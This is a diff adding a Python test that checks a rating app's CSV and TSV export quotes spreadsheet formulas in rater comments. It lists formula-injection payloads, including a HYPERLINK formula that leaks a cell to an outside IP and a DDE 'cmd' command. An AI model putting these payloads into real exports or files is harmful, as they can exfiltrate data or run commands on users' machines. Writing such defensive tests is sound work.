@@ -4,6 +4,7 @@ HTTP by tests/llm_server.py) by `calibration.agreement`."""
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 from typing import Any
 
@@ -68,3 +69,42 @@ def test_export_loads_into_calibration_and_matches_a_judge(
     assert (rows["n_items"] == len(live.ids)).all()
     assert (rows["n_humans"] == 3).all()
     assert (rows["alpha_with_judge"] == 1.0).all()
+
+
+HOSTILE = [
+    '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "'=already quoted",
+    "a plain comment",
+]
+
+
+def test_csv_export_escapes_formulas_and_calibrate_reads_them_back(
+    live: Live, tmp_path: Path
+) -> None:
+    hostile = iter(HOSTILE * 3)
+    written: dict[tuple[str, str], str] = {}
+    for rater in live.links:
+        with live.client() as client:
+            for n, item in enumerate(live.study.queues[rater], start=1):
+                comment = next(hostile)
+                rate(client, live.path(rater), n, _levels_for(0), comment=comment)
+                written[(item, rater)] = comment.strip()  # the app strips comments
+    assert set(written.values()) >= {c.strip() for c in HOSTILE}
+    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
+        out = tmp_path / f"human{suffix}"
+        export_scores(live.db, out)
+        with out.open(newline="") as handle:
+            cells = [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]
+        # No cell starts a formula: each one that would is behind a quote.
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert '\'=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")' in cells
+        human = calibration.load_human_scores(out)
+        rows = human[["item", "rater", "comment"]].itertuples(index=False)
+        read = {(item, rater): comment for item, rater, comment in rows}
+        assert read == written  # every comment read back exactly
+        assert human["score"].map(type).eq(float).all()  # scores are still numbers
+        assert set(human["score"]) == {float(QUALITY[0]), 0.0}
